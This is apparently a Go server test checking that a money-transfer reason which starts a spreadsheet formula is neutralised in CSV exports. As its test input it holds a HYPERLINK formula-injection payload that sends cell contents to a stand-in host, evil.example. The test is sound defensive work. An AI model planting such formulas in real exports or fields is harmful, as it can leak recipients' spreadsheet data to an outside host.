package server_test

import (
	"encoding/csv"
	"fmt"
	"strings"
	"testing"

	equitystore "copyhold/equity/store"

	"gorm.io/gorm"
)

// A transfer reason that starts a formula reaches the recipient's personal
// CSV export neutralised (quoted, with a single quote in front), and the
// statement CSV of both members still carries plain numbers.
func TestPersonalExportAndStatementNeutraliseFormulas(t *testing.T) {
	eachEnv(t, func(t *testing.T, e *env) {
		p := e.Project(t)
		if r := e.as("coord").do("POST", fmt.Sprintf("/api/projects/%d/rate-card", p.ID), map[string]any{"annotation_accepted": "1",
			"review_decision": "0.1", "correction_labeller_bp": 5000, "reason": "launch"}); r.status != 201 {
			t.Fatalf("rate card = %d %s", r.status, r.body)
		}
		labID := e.Members["lab"].ID
		if err := e.DB.Transaction(func(tx *gorm.DB) error {
			if _, err := equitystore.CreditPending(tx, equitystore.PendingCredit{SubmissionID: 1, ProjectID: p.ID, MemberID: labID}); err != nil {
				return err
			}
			_, err := equitystore.Vest(tx, equitystore.Decision{SubmissionID: 1, ReviewID: 1, ReviewerID: e.Members["rev"].ID})
			return err
		}); err != nil {
			t.Fatal(err)
		}
		const evil = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
		if r := e.as("lab").do("POST", "/api/equity/transfers", map[string]any{"idempotency_key": "gift", "model_id": p.ModelID,
			"to": e.Members["target"].ID, "amount": "0.5", "reason": evil}); r.status != 201 {
			t.Fatalf("transfer = %d %s", r.status, r.body)
		}
		data := e.as("target").do("GET", "/api/me/export?format=csv", nil)
		if data.status != 200 {
			t.Fatalf("export = %d %s", data.status, data.body)
		}
		if want := `"'` + strings.ReplaceAll(evil, `"`, `""`) + `"`; !strings.Contains(string(data.body), want) {
			t.Fatalf("personal export lacks %s:\n%s", want, data.body)
		}
		recs, err := csv.NewReader(strings.NewReader(string(data.body))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, rec := range recs {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
					t.Errorf("a cell starts a formula: %q", cell)
				}
			}
		}
		st := e.as("lab").do("GET", fmt.Sprintf("/api/equity/models/%d/statement?format=csv", p.ModelID), nil)
		if st.status != 200 || !strings.Contains(string(st.body), ",-0.500000,") {
			t.Fatalf("statement = %d %s", st.status, st.body)
		}
	})
}
